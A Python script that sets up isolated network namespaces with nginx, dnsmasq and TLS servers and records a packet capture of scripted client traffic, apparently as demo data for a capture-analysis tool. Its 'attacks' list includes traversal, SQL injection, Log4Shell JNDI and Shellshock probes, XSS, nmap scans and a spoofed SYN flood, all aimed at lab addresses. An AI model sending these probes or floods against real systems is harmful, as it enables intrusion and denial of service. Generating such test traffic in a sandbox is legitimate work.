#!/usr/bin/python3
"""Record captures/demo.pcap: real programs talk in network namespaces, tcpdump listens.

    client ──┐
    second ──┤ west ═══ router ═══ east ── server          tagged ══ VLAN 42 ══ backend
    scanner ─┘    (tcpdump listens here, west of the router)       (and here)

The double lines are `link.py`: they lose, delay and reorder frames. Everything that is made here
(namespaces, processes, files) is gone at the end; no packet leaves the namespaces. Run as root:

    /usr/bin/python3 captures/record.py captures/demo.pcap captures/sample.pcap
"""

from __future__ import annotations

import random
import shlex
import shutil
import signal
import subprocess
import sys
import tempfile
import time
from concurrent.futures import ThreadPoolExecutor
from contextlib import ExitStack
from pathlib import Path

PROGRAMS = (
    "bash curl dig dnsmasq ethtool hping3 ip mergecap nginx nmap openssl ping tcpdump tshark"
).split()
OUTPUTS = ("CAPTURE", "SAMPLE")
NAMESPACES = "client second scanner west router east server tagged pushes pops backend".split()

# One veth pair a row: namespace, interface, namespace, interface.
WIRES = [
    ("client", "eth0", "west", "port0"),
    ("second", "eth0", "west", "port1"),
    ("scanner", "eth0", "west", "port2"),
    ("west", "uplink", "west", "near"),
    ("west", "far", "router", "west0"),
    ("router", "east0", "east", "near"),
    ("east", "far", "server", "eth0"),
    ("tagged", "eth0", "pushes", "near"),
    ("pushes", "far", "pops", "far"),
    ("pops", "near", "backend", "eth0"),
]

# Documentation addresses (RFC 5737, RFC 3849) and private ones.
ADDRESSES = [
    ("client", "eth0", "192.0.2.10/24 2001:db8:1::10/64"),
    ("second", "eth0", "192.0.2.11/24 2001:db8:1::11/64"),
    ("scanner", "eth0", "192.0.2.66/24 2001:db8:1::66/64"),
    ("router", "west0", "192.0.2.1/24 2001:db8:1::1/64"),
    ("router", "east0", "198.51.100.1/24 2001:db8:2::1/64"),
    ("server", "eth0", "198.51.100.10/24 2001:db8:2::10/64"),  # web
    ("server", "eth0", "198.51.100.20/24 2001:db8:2::20/64"),  # openssl s_server
    ("server", "eth0", "198.51.100.53/24 2001:db8:2::53/64"),  # resolver
    ("tagged", "eth0", "10.42.0.1/24 fd00:42::1/64"),
    ("backend", "eth0", "10.42.0.2/24 fd00:42::2/64"),
]
GATEWAYS = [
    ("client", "192.0.2.1", "2001:db8:1::1"),
    ("second", "192.0.2.1", "2001:db8:1::1"),
    ("scanner", "192.0.2.1", "2001:db8:1::1"),
    ("server", "198.51.100.1", "2001:db8:2::1"),
]
SPOOFED = "203.0.113"  # the flood's sources: nobody answers there

LINKS = [
    ("west", "near far --loss 0.006 --reorder 0.01 --delay 0.004 --late 0.009 --seed 11"),
    ("east", "near far --loss 0.006 --reorder 0.01 --delay 0.003 --late 0.008 --seed 12"),
    ("pushes", "near far --vlan 42 --seed 13"),
    ("pops", "near far --vlan 42 --seed 14"),
]

NGINX = """
load_module /usr/lib/nginx/modules/ngx_http_echo_module.so;
daemon off; pid {folder}/nginx-{name}.pid; error_log {folder}/nginx-{name}.log;
worker_processes 1; events {{ worker_connections 1024; }}
http {{
    types {{ text/html html; text/plain txt; image/png png; application/json json;
             application/octet-stream bin; }}
    access_log off; server_tokens on; gzip on; gzip_types text/plain; gzip_http_version 1.0;
    if_modified_since before;
    client_body_temp_path {folder}/body-{name}; proxy_temp_path {folder}/proxy-{name};
    fastcgi_temp_path {folder}/fastcgi-{name}; uwsgi_temp_path {folder}/uwsgi-{name};
    scgi_temp_path {folder}/scgi-{name};
    ssl_certificate {folder}/certificate.pem; ssl_certificate_key {folder}/key.pem;
    ssl_protocols TLSv1.2 TLSv1.3;
    server {{
        listen 80; listen [::]:80; listen 8080; root {folder}/site;
        location /echo {{ echo_read_request_body; echo_request_body; }}
        location /slow {{ echo begin; echo_flush; echo_sleep 0.3; echo end; }}
        location /moved {{ return 301 http://www.shop.example/hello.txt; }}
        location /nothing {{ return 204; }}
        location /private {{ auth_basic shop; auth_basic_user_file {folder}/passwords; }}
        location /broken {{ return 500; }}
    }}
    server {{ listen 443 ssl http2; listen [::]:443 ssl http2; root {folder}/site; }}
}}
"""

RESOLVER = """
no-resolv
no-hosts
no-daemon
bind-interfaces
user=root
pid-file=
listen-address=198.51.100.53,2001:db8:2::53
local=/example/
address=/www.shop.example/198.51.100.10
address=/www.shop.example/2001:db8:2::10
address=/secure.shop.example/198.51.100.20
address=/secure.shop.example/2001:db8:2::20
host-record=ns.shop.example,198.51.100.53,2001:db8:2::53
cname=images.shop.example,ns.shop.example
mx-host=shop.example,mail.shop.example,10
txt-record=shop.example,"v=spf1 -all"
ptr-record=10.100.51.198.in-addr.arpa,www.shop.example
srv-host=_xmpp._tcp.shop.example,mail.shop.example,5222
"""

WEB = "http://www.shop.example"
TLS = "https://www.shop.example"
CURL = "curl -4 -sS -o /dev/null --max-time 60"

# What each client does, one shell command a row, in order. Clients work side by side.
ACTIVITIES: dict[str, tuple[str, list[str]]] = {
    "browsing": (
        "client",
        [
            f"{CURL} {WEB}/hello.txt",
            f"{CURL} {WEB}/ -o /dev/null {WEB}/style.txt -o /dev/null {WEB}/logo.png",
            f"{CURL} -I {WEB}/",
            f"{CURL} -I {WEB}/missing -o /dev/null {WEB}/missing.html",
            f"{CURL} --compressed {WEB}/long.txt",
            f"{CURL} --http1.0 --compressed {WEB}/long.txt",
            f"{CURL} -L {WEB}/moved",
            f"{CURL} {WEB}/nothing",
            f"{CURL} {WEB}/broken",
            f"{CURL} -u guest:wrong {WEB}/private",
            f"{CURL} -X DELETE {WEB}/item/7",
            f"{CURL} -X OPTIONS {WEB}/",
            f"{CURL} -r 1000-2999 {WEB}/large.bin",
            f"{CURL} -z 'Fri, 01 Jan 2100 00:00:00 GMT' {WEB}/hello.txt",
            f"{CURL} {WEB}/slow",
            *[f"{CURL} '{WEB}/item/[{n}-{n + 9}].json'" for n in range(0, 120, 10)],
        ],
    ),
    "posting": (
        "second",
        [
            f"{CURL} -d name=value -d other=thing {WEB}/echo",
            f"{CURL} -H 'Expect: 100-continue' --data-binary @site/large.bin {WEB}/echo",
            f"{CURL} -H 'Transfer-Encoding: chunked' --data-binary @site/long.txt {WEB}/echo",
            f"{CURL} -T site/long.txt {WEB}/echo",
            f"{CURL} -F file=@site/logo.png {WEB}/echo",
            f"{CURL} -p -x {WEB}:80 http://inside.example/",
            f"{CURL} -A 'shop-app/2.1 (phone)' {WEB}:8080/item/[1-20].json",
            f"{CURL} {WEB}:8000/ -o /dev/null {WEB}:8000/hello.txt",
            f"{CURL} -6 {WEB}/long.txt -o /dev/null {WEB}/item/[1-15].json",
        ],
    ),
    "downloads": (
        "second",
        [
            f"{CURL} {WEB}/large.bin",
            f"{CURL} -6 {WEB}/large.bin",
            f"{CURL} -6 -Z {WEB}/large.bin -o /dev/null {WEB}/logo.png -o /dev/null {WEB}/long.txt",
            f"{CURL} --limit-rate 200k --max-time 1 {WEB}/large.bin || true",  # given up: RST
        ],
    ),
    "pipelining": (
        "client",
        [
            "exec 3<>/dev/tcp/198.51.100.10/80; "
            "printf 'GET /hello.txt HTTP/1.1\\r\\nHost: www.shop.example\\r\\n\\r\\n"
            "HEAD /logo.png HTTP/1.1\\r\\nHost: www.shop.example\\r\\n\\r\\n"
            "GET /item/1.json HTTP/1.1\\r\\nHost: www.shop.example\\r\\n"
            "Connection: close\\r\\n\\r\\n' >&3; cat <&3 >/dev/null",
            "exec 3<>/dev/tcp/198.51.100.10/80; printf 'NOT HTTP AT ALL\\r\\n\\r\\n' >&3; cat <&3",
            "exec 3<>/dev/tcp/198.51.100.10/80; "
            "for part in GE 'T /hel' 'lo.txt HT' 'TP/1.1\\r\\nHo' 'st: www.shop.example\\r' '\\n'"
            " 'Connection: close\\r\\n\\r\\n'; do printf \"$part\" >&3; sleep 0.05; done; cat <&3",
            "exec 3<>/dev/tcp/198.51.100.10/23; read -t 1 line <&3;"
            " printf 'root\\r\\n' >&3; cat <&3",
        ],
    ),
    "encrypted": (
        "client",
        [
            f"{CURL} -k {TLS}/hello.txt -o /dev/null {TLS}/item/[1-5].json",
            f"{CURL} -k --http1.1 --tls-max 1.2 {TLS}/long.txt",
            f"{CURL} -k -6 {TLS}/logo.png",
            f"{CURL} -k --no-alpn {TLS}/",
            f"{CURL} -k https://198.51.100.10/",
            "echo Q | openssl s_client -connect 198.51.100.20:4433 -servername secure.shop.example"
            " -tls1_3",
            "echo Q | openssl s_client -connect 198.51.100.20:4433 -servername old.shop.example"
            " -tls1_2",
            "echo Q | openssl s_client -connect 198.51.100.20:4433 -noservername",
            "echo Q | openssl s_client -connect [2001:db8:2::20]:4433 -servername v6.shop.example"
            " -alpn h2,http/1.1,spdy/3",
            # A hello that needs more than one segment.
            "echo Q | openssl s_client -connect 198.51.100.20:4433 -servername big.shop.example"
            " -alpn $(seq -s, -f 'protocol-%04g' 1 200)",
            "echo plain text | openssl s_client -connect 198.51.100.10:8000 || true",
        ],
    ),
    "names": (
        "second",
        [
            "dig www.shop.example A",
            "dig www.shop.example AAAA",
            "dig shop.example MX",
            "dig shop.example TXT",
            "dig images.shop.example",
            "dig missing.shop.example",
            "dig -x 198.51.100.10",
            "dig _xmpp._tcp.shop.example SRV",
            "dig +tcp www.shop.example A +tcp shop.example MX",
            "dig +tcp @2001:db8:2::53 ns.shop.example AAAA",
            "dig @2001:db8:2::53 www.shop.example AAAA",
            "dig +noedns +norecurse WWW.Shop.Example",
            "dig shop.example ANY +notcp",
            "dig version.bind CH TXT",
            *[f"dig host-{n}.shop.example A host-{n}.shop.example AAAA" for n in range(25)],
            "printf '\\x12\\x34\\x01' > /dev/udp/198.51.100.53/53",  # three bytes are no message
        ],
    ),
    "echoes": (
        "client",
        [
            "ping -c 8 -i 0.2 198.51.100.10",
            "ping -c 4 -i 0.2 -s 1400 198.51.100.10",
            "ping -c 4 -i 0.2 2001:db8:2::10",
            "ping -c 2 -i 0.2 -s 4000 198.51.100.10",  # fragments
            "ping -c 1 -t 1 198.51.100.10 || true",  # time exceeded
            "printf lost > /dev/udp/198.51.100.10/9",  # port unreachable
        ],
    ),
    "attacks": (
        "scanner",
        [
            f"{CURL} --path-as-is '{WEB}/../../../../etc/passwd'",
            f"{CURL} -A 'sqlmap/1.7.2#stable (https://sqlmap.org)' \"{WEB}/item?id=1'%20OR%201=1\"",
            f"{CURL} -A '${{jndi:ldap://198.51.100.99/a}}' {WEB}/",
            f"{CURL} -A '() {{ :; }}; /bin/cat /etc/passwd' {WEB}/cgi-bin/status",
            f"{CURL} '{WEB}/search?q=<script>alert(1)</script>'",
            f"{CURL} {WEB}/virus-test.txt",
            "nmap -n -Pn -sS -T4 --max-retries 1 -p 1-600 198.51.100.10",
            "nmap -n -Pn -sT -T4 --max-retries 1 -p 20-60 198.51.100.20",
            "nmap -n -Pn -6 -sS -T4 --max-retries 1 -p 20-120 2001:db8:2::10",
            "nmap -n -Pn -sU -T4 --max-retries 0 -p 53,67,123,161,500 198.51.100.10",
            "nmap -n -Pn -sX -T4 --max-retries 0 -p 20-30 198.51.100.10",
            *[
                f"hping3 -q -S -p 80 -i u1500 -c 20 -a {SPOOFED}.{n} 198.51.100.20 || true"
                for n in range(1, 31)
            ],
        ],
    ),
    "tagged": (
        "tagged",
        [
            f"{CURL} http://10.42.0.2/hello.txt -o /dev/null http://10.42.0.2/item/[1-4].json",
            f"{CURL} -6 'http://[fd00:42::2]/'",
            "ping -c 2 -i 0.2 10.42.0.2",
        ],
    ),
}

BANNER = """
import socket, threading
def serve(connection):
    connection.sendall(b"login: ")
    connection.recv(100)
    connection.close()
listener = socket.create_server(("198.51.100.10", 23))
while True:
    threading.Thread(target=serve, args=(listener.accept()[0],)).start()
"""


class Laboratory:
    """The namespaces and what runs in them, gone when the `with` block ends."""

    def __init__(self, folder: Path) -> None:
        self.folder = folder
        self.prefix = "mbx-"
        self.background: list[subprocess.Popen[bytes]] = []

    def __enter__(self) -> Laboratory:
        for name in NAMESPACES:
            self._ip(f"netns add {self.prefix}{name}")
        return self

    def __exit__(self, *_: object) -> None:
        for process in reversed(self.background):
            self.end(process)
        for name in NAMESPACES:
            subprocess.run(["ip", "netns", "del", self.prefix + name], check=False)
            shutil.rmtree(f"/etc/netns/{self.prefix}{name}", ignore_errors=True)

    def run(self, namespace: str, command: str) -> None:
        """Run a shell command in a namespace to its end; what it says goes to a file."""
        with (self.folder / "output.txt").open("ab") as output:
            subprocess.run(
                [*self._inside(namespace), "bash", "-c", command],
                cwd=self.folder,
                stdin=subprocess.DEVNULL,
                stdout=output,
                stderr=subprocess.STDOUT,
                check=False,
                timeout=120,
            )

    def start(self, namespace: str, command: str) -> subprocess.Popen[bytes]:
        """Start a program that stays until the end."""
        with (self.folder / "output.txt").open("ab") as output:
            process = subprocess.Popen(
                [*self._inside(namespace), *shlex.split(command)],
                cwd=self.folder,
                stdin=subprocess.DEVNULL,
                stdout=output,
                stderr=subprocess.STDOUT,
            )
        self.background.append(process)
        return process

    def end(self, process: subprocess.Popen[bytes]) -> None:
        """End a program that was started here."""
        if process in self.background:
            self.background.remove(process)
        process.send_signal(signal.SIGTERM)
        process.wait(10)

    def wire(self) -> None:
        """Connect the namespaces, give addresses, switch off what hides frames from a capture."""
        for left, left_name, right, right_name in WIRES:
            self._ip(
                f"link add {left_name} netns {self.prefix}{left} type veth"
                f" peer name {right_name} netns {self.prefix}{right}"
            )
        carriers = ("west", "east", "pushes", "pops")
        for name in NAMESPACES:
            self.run(name, "sysctl -qw net.ipv4.conf.all.rp_filter=0 net.ipv4.tcp_synack_retries=2")
        for name in carriers:
            self.run(name, "sysctl -qw net.ipv6.conf.all.disable_ipv6=1")
        self.run("router", "sysctl -qw net.ipv4.ip_forward=1 net.ipv6.conf.all.forwarding=1")
        self.run("west", "ip link add bridge type bridge mcast_snooping 0")
        for port in ("port0", "port1", "port2", "uplink"):
            self.run("west", f"ip link set {port} master bridge")
        for left, left_name, right, right_name in WIRES:
            for namespace, interface in ((left, left_name), (right, right_name)):
                # Checksums in the frame, and no segments larger than the wire takes.
                self.run(namespace, f"ethtool -K {interface} tx off rx off tso off gso off gro off")
                self.run(namespace, f"ip link set {interface} up")
        for name in NAMESPACES:
            self.run(name, "ip link set lo up")
        self.run("west", "ip link set bridge up")
        for namespace, interface, addresses in ADDRESSES:
            for address in addresses.split():
                flags = "nodad" if ":" in address else ""
                self.run(namespace, f"ip address add {address} dev {interface} {flags}")
        for namespace, version4, version6 in GATEWAYS:
            self.run(namespace, f"ip route add default via {version4}")
            self.run(namespace, f"ip -6 route add default via {version6}")
        self.run("router", f"ip route add {SPOOFED}.0/24 via 192.0.2.66")
        for name in ("client", "second", "scanner"):
            folder = Path(f"/etc/netns/{self.prefix}{name}")
            folder.mkdir(parents=True)
            (folder / "resolv.conf").write_text("nameserver 198.51.100.53\n")

    def _inside(self, namespace: str) -> list[str]:
        return ["ip", "netns", "exec", self.prefix + namespace]

    def _ip(self, arguments: str) -> None:
        subprocess.run(["ip", *arguments.split()], check=True)


def write_site(folder: Path) -> None:
    """Write the files that the servers show, from a seed, and a certificate."""
    choice = random.Random(7)
    site = folder / "site"
    (site / "item").mkdir(parents=True)
    links = "".join(f'<li><a href="/item/{n}.json">{n}</a></li>' for n in range(40))
    (site / "index.html").write_text(f"<html><body><h1>Shop</h1><ul>{links}</ul></body></html>\n")
    (site / "hello.txt").write_text("hello\n")
    (site / "style.txt").write_text("body { color: black }\n" * 20)
    (site / "logo.png").write_bytes(b"\x89PNG\r\n\x1a\n" + choice.randbytes(24_000))
    (site / "large.bin").write_bytes(choice.randbytes(700_000))
    (site / "long.txt").write_text("".join(f"line {choice.random()}\n" for _ in range(4000)))
    (site / "virus-test.txt").write_text("X5O!MICROBOX-ANTIVIRUS-TEST-FILE!\n")
    for number in range(130):
        (site / "item" / f"{number}.json").write_text(
            f'{{"item": {number}, "price": {choice.randrange(1, 9999) / 100}}}\n'
        )
    (folder / "passwords").write_text("guest:$apr1$none$none\n")
    (folder / "resolver.conf").write_text(RESOLVER)
    (folder / "banner.py").write_text(BANNER)
    for name in ("server", "backend"):
        (folder / f"nginx-{name}.conf").write_text(NGINX.format(folder=folder, name=name))
    subprocess.run(
        "openssl req -x509 -newkey rsa:2048 -nodes -days 30 -subj /CN=www.shop.example"
        " -addext subjectAltName=DNS:*.shop.example -keyout key.pem -out certificate.pem".split(),
        cwd=folder,
        check=True,
        stderr=subprocess.DEVNULL,
    )


def start_servers(laboratory: Laboratory) -> None:
    """Start the links and all servers, and let them come up."""
    link = Path(__file__).resolve().with_name("link.py")
    for namespace, options in LINKS:
        laboratory.start(namespace, f"/usr/bin/python3 {link} {options}")
    folder = laboratory.folder
    laboratory.start("server", f"nginx -c {folder}/nginx-server.conf -p {folder}")
    laboratory.start("backend", f"nginx -c {folder}/nginx-backend.conf -p {folder}")
    laboratory.start("server", f"dnsmasq -C {folder}/resolver.conf")
    laboratory.start("server", f"/usr/bin/python3 -m http.server -d {folder}/site 8000")
    laboratory.start("server", f"/usr/bin/python3 {folder}/banner.py")
    laboratory.start(
        "server",
        "openssl s_server -accept 4433 -www -cert certificate.pem -key key.pem"
        " -alpn http/1.1,protocol-0001",
    )
    time.sleep(3)


def perform(laboratory: Laboratory, namespace: str, commands: list[str]) -> None:
    """Run one activity's commands, one after the other."""
    for command in commands:
        laboratory.run(namespace, command)


def record(laboratory: Laboratory, capture: Path) -> None:
    """Listen west of the router and on the VLAN while the clients work; merge by time."""
    places = {"router": "west0", "pushes": "far"}
    listeners = []
    for namespace, interface in places.items():
        listeners.append(
            laboratory.start(
                namespace,
                f"tcpdump -Z root -B 16384 --time-stamp-precision nano -s 0 -i {interface}"
                f" -w {laboratory.folder}/{namespace}.pcap",
            )
        )
    time.sleep(1)
    # Left open when the recording ends, in the middle of a request.
    laboratory.start(
        "client",
        'bash -c \'exec 3<>/dev/tcp/198.51.100.10/80; printf "GET /never HTTP/1.1\\r\\nHost:" >&3;'
        " exec sleep 300'",
    )
    with ThreadPoolExecutor(len(ACTIVITIES)) as pool:
        for namespace, commands in ACTIVITIES.values():
            pool.submit(perform, laboratory, namespace, commands)
    time.sleep(2)
    for listener in listeners:
        laboratory.end(listener)
    parts = [f"{laboratory.folder}/{namespace}.pcap" for namespace in places]
    subprocess.run(["mergecap", "-F", "nsecpcap", "-w", str(capture), *parts], check=True)


def cut_sample(capture: Path, sample: Path) -> None:
    """Cut the first exchange for /hello.txt and the first lookup out of the capture."""
    exchange = first(
        capture,
        "tcp.stream",
        'http.request.uri == "/hello.txt" && http.user_agent && ip.dst == 198.51.100.10',
    )
    lookup = first(capture, "udp.stream", "dns.a && ip.src == 198.51.100.53 && udp")
    wanted = f"(tcp.stream == {exchange} && !tcp.analysis.duplicate_ack) || udp.stream == {lookup}"
    subprocess.run(
        ["tshark", "-r", str(capture), "-Y", wanted, "-F", "nsecpcap", "-w", str(sample)],
        check=True,
    )


def first(capture: Path, field: str, wanted: str) -> str:
    """Return a field of the first packet that tshark's filter names."""
    command = ["tshark", "-r", str(capture), "-Y", wanted, "-T", "fields", "-e", field]
    return subprocess.run(command, check=True, capture_output=True, text=True).stdout.split()[0]


def main() -> int:
    """Record, merge, cut."""
    missing = [program for program in PROGRAMS if shutil.which(program) is None]
    if len(sys.argv) != 1 + len(OUTPUTS) or missing:
        print(f"usage: {sys.argv[0]} {' '.join(OUTPUTS)}")
        print(*(f"missing: {program}" for program in missing), sep="\n")
        return 2
    capture, sample = (Path(argument).resolve() for argument in sys.argv[1:])
    with ExitStack() as stack:
        folder = Path(stack.enter_context(tempfile.TemporaryDirectory(prefix="microbox-record-")))
        folder.chmod(0o755)
        write_site(folder)
        laboratory = stack.enter_context(Laboratory(folder))
        laboratory.wire()
        start_servers(laboratory)
        record(laboratory, capture)
    cut_sample(capture, sample)
    return 0


if __name__ == "__main__":
    sys.exit(main())
